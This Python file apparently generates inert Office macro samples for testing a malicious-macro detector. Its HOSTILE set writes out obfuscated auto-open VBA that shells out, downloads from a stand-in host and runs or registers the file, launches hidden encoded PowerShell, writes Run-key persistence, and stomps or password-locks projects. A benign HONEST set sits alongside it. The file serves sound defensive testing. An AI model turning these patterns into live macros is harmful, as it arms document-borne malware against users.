# SPDX-License-Identifier: Apache-2.0
"""wavemacro - VBA for the samples of tools/make-waves.

HOSTILE has the shapes that mass mail carried, in harmless form: what would be run is the name
of a program that does not exist, what would be fetched lies under example.invalid, and the
controls, shapes and forms that arguments come from are not there. HONEST has the everyday
neighbours: the same calls, for what people use them for.
"""
import office97
import ooxml
import oforms
import ovba

GONE = 'example-command-that-does-not-exist'
URL = 'http://example.invalid/inert.txt'


def junk(n, seed=7):
    """Assignments nobody reads, of names nobody assigns: the filling of the 2018-2019 waves."""
    out, x = [], seed
    for i in range(n):
        x = x * 1103515245 + 12345 & 0x7FFFFFFF
        names = ['%s%sz%dK' % ('qwxzvkjh'[x >> s & 7], 'bcdfghkl'[x >> s + 3 & 7].upper(), (x >> s) % 977) for s in (3, 9, 15)]
        out.append('    %s = (%d + Round(%s) * %d - %sX + (%s / Tan(%sY)))' % (names[0], x % 90000, names[1], x % 89, names[2], names[1], names[0]))
    return '\n'.join(out)


HEAD = "' inert sample, built by tools/make-waves: nothing named here exists\n"

HOSTILE = {
    # --- the families of detection by shape, A to K
    'family-a': '''
Sub autoopen()
    qLwzRkP
End Sub
Function qLwzRkP()
{junk}
    vPqRkT = Array(jSkdW, wKzzN, Interaction.Shell(("" + mKwqR + zLpxC + ThisDocument.TextBox1) + qQwzT, 91 - 91), pPlkN)
{junk2}
End Function
''',
    'family-b': '''
Sub AutoOpen()
    Dim kind
{junk}
    kind = "WscRipt.sHeLl"
    zQkWpR = Array(rTnZk, CreateObject(kind).Run!(("" + wQzKm + ThisDocument.TextBox1) + pLzQw, 14 - 14), kRtWz)
End Sub
''',
    'family-c': '''
Sub Document_open()
{junk}
    Set s = ThisDocument.Shapes(zWqKp + "box7" + rTzLk)
    c = s.TextFrame.TextRange + qPzWk
    x = Interaction _
     _
     .Shell(c, 0)
End Sub
''',
    'family-d': '''
Sub AutoOpen()
    Application.Run zWkQp + "vKzRtWq" + pQzLk, 5
End Sub
Sub vKzRtWq(n)
    p = Replace(Chr(VBA.vbKeyW) + "QSWXscript.", "QSWXs", Chr(VBA.vbKeyS)) + "Shell"
    CreateObject(p).Run zQwKp + "{gone}" + pLkZw, vbHide
End Sub
''',
    'family-e': '''
Sub AutoOpen()
    Shell wKzPq("zzz{backwards}zzz", 15657 + 4 - 15657, 35), 0
End Sub
Function wKzPq(s, a, b)
    wKzPq = Mid(StrReverse(s), a, b)
End Function
''',
    'family-f': '''
Sub AutoOpen()
    zKwPq = Left(Right("--example-comm--", 14), 12) + CStr(Left(Right("..and-that-does-", 14), 14)) + Left(Right("..not-exist.", 10), 9)
    Shell zKwPq, 0
End Sub
''',
    'family-g': '''
Sub AutoOpen()
    Shell% KeyString(zWqKp + kRtWz + 69 + pQzLk) + wKzPq + rTzLk
End Sub
Function wKzPq()
    wKzPq = "xample" + "-comm" + "and-that" + CStr(Chr(zPq + 45)) + "does-not" + "-exist"
End Function
Function rTzLk()
    rTzLk = zzP + ""
End Function
''',
    'family-h': '''
Sub _
 autoopen( _
 )
{junk}
    Set startup = GetObject(zKwP("winmgmts:Win32" + "_ProcessStartup"))
    startup. _
 ShowWindow = 422843 - 422843
    GetObject(zKwP("winmgmts:Win32" + "_Process")).Create wQzKm + "example" + ThisDocument.TextBox1 + pLzQw, kRtWz, startup, zPqWk
End Sub
Function zKwP(x)
    zKwP = (x)
End Function
''',
    'family-i': '''
Sub _
 autoopen( _
 )
    Debug.Print "a" + ("b" + ("c"))
    With zWqR
    . _
 ShowWindow = pLzQw + kRtWz + zPqWk
    End With
    CreateObject(("winmg" + "mts:Win32_Process")).Create# ThisDocument.ComboBox1, zKwPq, zWqR, wQzKm
End Sub
''',
    'family-j': '''
Private Sub Document_Open()
    zKwPq
End Sub
Sub zKwPq()
    pQzLk
End Sub
Function pQzLk()
    Set o = New fm
    fn = o.mynewtxt.Text
    VBA.Shell fn, 0
End Function
''',
    'family-k': '''
Private Sub Document_open()
    d = "//==zK388iN//==zK388nm//==zK388g" + LCase(ChrW(wdKeyM)) + "t//==zK388" + LCase(ChrW(wdKeyS)) + ":Win32//==zK388_Proc//==zK388ess"
    Set p = GetObject(Join(Split("w" + d, "//==zK388"), ""))
    Do While p. _
    Create(wQzKm & cmd(), kRtWz, startup, zPqWk)
    Loop
End Sub
Function cmd()
    cmd = LTrim(LTrim(Form1.Frame1.Tag + Form1.Button1.GroupName))
End Function
''',
    # --- other ways from an automatic entry
    'computed-class': '''
Sub AutoOpen()
    CreateObject(Form1.Label1.Tag).Run "{gone}", 0
End Sub
''',
    'download-api': '''
Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
Sub Workbook_Open()
    fetch 0, "{url}", Environ("TEMP") & "\\inert.txt", 0, 0
End Sub
''',
    'download-xmlhttp': '''
Sub AutoOpen()
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", "{url}", False
    h.Send
End Sub
''',
    'persist': '''
Sub AutoClose()
    NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString "' inert"
End Sub
''',
    'excel4': '''
Sub Workbook_Open()
    ExecuteExcel4Macro "ALERT(""inert sample"")"
End Sub
''',
    'stylesheet': '''
Sub AutoOpen()
    Set d = CreateObject("MSXML2.DOMDocument")
    d.LoadXML "<inert/>"
    d.transformNode d
End Sub
''',
    'write-computed': '''
Sub AutoOpen()
    Open Environ("TEMP") & "\\inert.txt" For Output As #1
    Print #1, "inert sample"
    Close #1
    Set o = CreateObject(Form1.Label1.Tag)
    o.Something
End Sub
''',
    'control-event': '''
Private Sub Frame1_Layout()
    Shell "{gone}", 0
End Sub
''',
    'memory': '''
Private Declare PtrSafe Function room Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal n As LongPtr, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function thread Lib "kernel32" Alias "CreateThread" (ByVal a As LongPtr, ByVal n As LongPtr, ByVal f As LongPtr, ByVal p As LongPtr, ByVal c As Long, i As Long) As LongPtr
Sub AutoOpen()
    MsgBox "inert sample"
End Sub
Sub nobody_calls_this()
    room 0, 0, 0, 0
    thread 0, 0, 0, 0, 0, 0
End Sub
''',
    # --- what evaluation finds
    'effect-download-run': '''
Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
Sub AutoOpen()
    place = Environ("TEMP") & "\\inert." & StrReverse("exe")
    fetch 0, Replace("http:QZ//example.QZinvalid/inert", "QZ", ""), place, 0, 0
    Shell place, 0
End Sub
''',
    'effect-download-loader': '''
Sub AutoOpen()
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", "{url}", False
    h.Send
    Set o = CreateObject("ADODB.Stream")
    o.Open
    o.Type = 1
    o.Write h.responseBody
    o.SaveToFile Environ("TEMP") & "\\inert.txt", 2
    CreateObject("WScript.Shell").Run "reg" & "svr32 /s %TEMP%\\inert.txt", 0
End Sub
''',
    'effect-write-run': '''
Sub AutoOpen()
    Open Environ("TEMP") & "\\inert.vbs" For Output As #1
    Print #1, "' inert sample"
    Close #1
    Shell Chr(119) & "script " & Environ("TEMP") & "\\inert.vbs", 0
End Sub
''',
    'effect-run-interpreter': '''
Sub AutoOpen()
    c = Join(Split("cQZmQZd /QZc {gone}", "QZ"), "")
    CreateObject("WScript.Shell").Run c, 0
End Sub
''',
    'effect-run-powershell': '''
Private Sub CommandButton1_Click()
    Shell StrReverse("neddih w- llehsrewop") & " -e" & "nc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABpAG4AZQByAHQA", 0
End Sub
''',
    'effect-persist': '''
Private Sub CommandButton1_Click()
    CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\" & StrReverse("nuR") & "\\inert", "{gone}"
End Sub
''',
    # --- the same behind a button, where nothing but what it does is out of the ordinary
    'button-download-run': '''
Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
Private Sub CommandButton1_Click()
    Dim place As String
    place = Environ("TEMP") & "\\inert.exe"
    fetch 0, "{url}", place, 0, 0
    Shell place, 0
End Sub
''',
    'button-download-loader': '''
Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
Private Sub CommandButton1_Click()
    Dim place As String
    place = Environ("TEMP") & "\\inert.txt"
    fetch 0, "{url}", place, 0, 0
    Shell "regsvr32 /s " & place, 0
End Sub
''',
    'button-write-run': '''
Private Sub CommandButton1_Click()
    Dim place As String
    place = Environ("TEMP") & "\\inert.vbs"
    Open place For Output As #1
    Print #1, "' inert sample"
    Close #1
    Shell "wscript " & place, 0
End Sub
''',
    'open-named-method': '''
Sub AutoOpen()
    Dim shown As Object
    Set shown = GetObject("new:" & Tell(0))
    CallByName shown, Tell(1), VbMethod, Tell(2), 0
End Sub
Function Tell(n)
    Tell = Split("72C24DD5-D70A-438B-8A42-98424B88AFB8|Run|cmd /c {gone}", "|")(n)
End Function
''',
    # --- what does not start by itself, or does not show what it calls
    'button-filled-form': '''
Private Sub CommandButton1_Click()
    Dim p
    p = Replace(UserForm1.TextBox1.Text, UserForm1.Label1.Caption, "")
    Shell p, 0
End Sub
''',
    'open-control-class': '''
Sub AutoOpen()
    Dim o, k
    k = Me.ComboBox1
    o = k & Me.TextBox1.Value
    Call Tell(o)
End Sub
Private Sub Tell(ByVal what)
    Documents.Open what
    CreateObject(Mid(Me.TextBox2, 2)).Run what
End Sub
''',
    'button-filled-box': '''
Private Sub CommandButton1_Click()
    Dim p
    p = Replace(UserForm1.TextBox1.Text, "XQZZ", "")
    Shell p, 0
End Sub
''',
    'open-form-address': '''
Sub AutoOpen()
    Dim h
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", UserForm1.TextBox1.Tag, False
    h.Send
End Sub
''',
    'button-hidden-argument': '''
Private Sub CommandButton1_Click()
    Shell ActiveDocument.Variables("v").Value, 0
End Sub
''',
    'button-obfuscated': '''
Private Sub CommandButton1_Click()
{junk}
    Shell% "exam" + zQwKp + "ple-comm" + pLkZw + "and-that-" + kRtWz + "does-not-exist", 4 - 4
{junk2}
End Sub
''',
    'entry-obfuscated': '''
Sub AutoOpen()
{junk}
    zKwPq = "exam" + zQwKp + "ple" + pLkZw
{junk2}
End Sub
''',
    'entry-silent': '''
Sub Document_Open()
    ActiveDocument.Content.Text = "inert sample"
End Sub
''',
    'module': '''
Sub Example()
    MsgBox "inert sample"
End Sub
''',
}

HONEST = {
    'open-formats': '''
Private Sub Workbook_Open()
    With Worksheets(1).Range("A1:F1")
        .Font.Bold = True
        .Interior.Color = RGB(221, 235, 247)
    End With
    Worksheets(1).Range("F2").Value = Date
End Sub
''',
    'open-checks-file': '''
Private Sub Workbook_Open()
    Dim fso As Object
    Set fso = CreateObject("Scripting.FileSystemObject")
    If Not fso.FileExists(ThisWorkbook.Path & "\\単価表.xlsx") Then MsgBox "単価表.xlsx が見つかりません。", vbExclamation
End Sub
''',
    'open-writes-log': '''
Private Sub Workbook_Open()
    Dim f As Integer
    f = FreeFile
    Open ThisWorkbook.Path & "\\利用記録.txt" For Append As #f
    Print #f, Format(Now, "yyyy/mm/dd hh:nn") & " " & Application.UserName
    Close #f
End Sub
''',
    'open-updates-fields': '''
Private Sub Document_Open()
    If Not ActiveDocument.ReadOnly Then ActiveDocument.Fields.Update
End Sub
''',
    'button-notepad': '''
Private Sub CommandButton1_Click()
    Shell "notepad.exe """ & ThisWorkbook.Path & "\\手順.txt""", vbNormalFocus
End Sub
''',
    'button-cell-path': '''
Private Sub CommandButton1_Click()
    Dim 場所 As String
    場所 = Worksheets("設定").Range("B2").Value
    Shell "explorer.exe """ & 場所 & """", vbNormalFocus
End Sub
''',
    'button-form-ping': '''
Private Sub CommandButton1_Click()
    Shell "cmd /k ping " & UserForm1.TextBox1.Text, vbNormalFocus
End Sub
''',
    'button-mails': '''
Sub 送信()
    Dim ol As Object, m As Object
    Set ol = CreateObject("Outlook.Application")
    Set m = ol.CreateItem(0)
    m.To = Range("B1").Value
    m.Subject = Range("B2").Value
    m.Attachments.Add ThisWorkbook.FullName
    m.Display
End Sub
''',
    'api-sleep': '''
Private Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As Long)
Sub 点滅()
    Dim i As Integer
    For i = 1 To 6
        Range("A1").Interior.ColorIndex = IIf(i Mod 2, 6, xlNone)
        Sleep 200
    Next i
End Sub
''',
    'form-viewer': '''
Private Sub CommandButton1_Click()
    Shell UserForm1.TextBox1.Text, vbNormalFocus
End Sub
Private Sub Label2_Click()
    ActiveDocument.FollowHyperlink UserForm1.Label2.Caption
End Sub
Sub AutoOpen()
    UserForm1.Show
End Sub
''',
    'button-fetches-rates': '''
Private Sub CommandButton1_Click()
    Dim h As Object, s As Object
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", "https://rates.example/2026-11.csv", False
    h.Send
    Set s = CreateObject("ADODB.Stream")
    s.Open
    s.Type = 1
    s.Write h.responseBody
    s.SaveToFile ThisWorkbook.Path & "\\為替.csv", 2
    Shell "explorer.exe """ & ThisWorkbook.Path & """", vbNormalFocus
End Sub
''',
    'button-writes-batch': '''
Private Sub CommandButton1_Click()
    Open ThisWorkbook.Path & "\\写し.bat" For Output As #1
    Print #1, "copy *.csv backup"
    Close #1
    Shell """" & ThisWorkbook.Path & "\\写し.bat""", vbNormalFocus
End Sub
''',
    'button-powershell-report': '''
Private Sub CommandButton1_Click()
    Shell "powershell -ExecutionPolicy RemoteSigned -File C:\\tools\\report.ps1", vbNormalFocus
End Sub
''',
    'button-keeps-width': '''
Private Sub CommandButton1_Click()
    CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Example\\Width", ActiveWindow.Width
End Sub
''',
    'generated-table': '''
Sub 表を作る()
    Dim t As String
    t = "コード" & vbTab & "品名" & vbTab & "単価" & vbCrLf
    t = t & "A001" & vbTab & "ボルト" & vbTab & "12" & vbCrLf
    t = t & "A002" & vbTab & "ナット" & vbTab & "8" & vbCrLf
    t = t & "A003" & vbTab & "座金" & vbTab & "3" & vbCrLf
    Range("A1").Value = t
End Sub
''',
}


def hostile(name):
    text = HOSTILE[name].replace('{junk}', junk(30)).replace('{junk2}', junk(30, 11))
    return HEAD + text.replace('{gone}', GONE).replace('{backwards}', GONE[::-1]).replace('{url}', URL).strip('\n')


def honest(name):
    return "' honest sample, built by tools/make-waves\n" + HONEST[name].strip('\n')


def _modules(source, book):
    if book:
        return [ovba.Module('ThisWorkbook', source, 'document', ovba.EXCEL_WORKBOOK),
                ovba.Module('Sheet1', '', 'document', ovba.EXCEL_SHEET)]
    return [ovba.Module('ThisDocument', source, 'document', ovba.WORD_DOCUMENT)]


LETTER = '見積書\nお世話になっております。ご依頼の見積書をお送りします。数量は200、納期は12月上旬の予定です。'


def doc(source, text=LETTER, **more):
    return office97.word(text, _modules(source, False), **more)


def docm(source, paragraphs=tuple(LETTER.split('\n'))):
    return ooxml.word(paragraphs, _modules(source, False))


def form_doc(source, controls, text=LETTER):
    """A .doc whose project has UserForm1 with these controls."""
    extra = {'Macros/' + k: v for k, v in oforms.form('UserForm1', controls).items()}
    return office97.word(text, _modules(source, False), extra=extra)


def ocx_doc(source, controls, text=LETTER):
    """A .doc with ActiveX controls on its pages: [(name, kind, value)]."""
    extra = {}
    for i, (name, kind, value) in enumerate(controls):
        extra.update({'ObjectPool/_%d/%s' % (1600000000 + i, k): v for k, v in oforms.ocx(name, kind, value).items()})
    return office97.word(text, _modules(source, False), extra=extra)


ROWS = [('集計表', [['月', '件数', '金額'], ['10月', 12, 34000], ['11月', 9, 27000], ['合計', '=SUM(B2:B3)', '=SUM(C2:C3)']])]


def xlsm(source, sheets=ROWS, module=None):
    modules = _modules(source, True)
    return ooxml.sheet(sheets, modules + ([ovba.Module('Module1', module)] if module else []))


def altered(source, text=LETTER, change=None, **options):
    """A .doc whose project streams `change` may alter before they are written."""
    modules = _modules(HEAD.strip('\n'), False) + [ovba.Module('Module1', source)]
    streams = ovba.project(modules, **options)
    if change:
        change(streams)
    return office97.word(text, extra={'Macros/' + k: v for k, v in streams.items()})


def hidden_module(text=LETTER):
    return altered(hostile('module'), text, hidden=('Module1',))


def unviewable(text=LETTER):
    def empty_password(streams):
        head, tail = streams['PROJECT'].split(b'DPB="', 1)
        streams['PROJECT'] = head + b'DPB=""' + tail.split(b'"', 1)[1]
    return altered(hostile('module'), text, empty_password)


def locked():
    """A project with a password, as offices set one against accidents: the editor asks for it."""
    def password(streams):
        head, tail = streams['PROJECT'].split(b'DPB="', 1)
        key = ovba._encrypt(b'inert bytes in the place', 0x8C, '{5D1F2B6C-0A34-4C59-9E51-2F6B7C8D9E01}')
        streams['PROJECT'] = head + b'DPB="' + key.encode() + b'"' + tail.split(b'"', 1)[1]
    return altered(honest('open-updates-fields'), LETTER, password)


def stomped():
    """No source behind what stands where compiled code would: words."""
    cache = (b'inert words in the place of compiled code ' * 250)[:9000]
    module = ovba.Module('ThisDocument', '', 'document', ovba.WORD_DOCUMENT, cache)
    return office97.word(LETTER, [module])
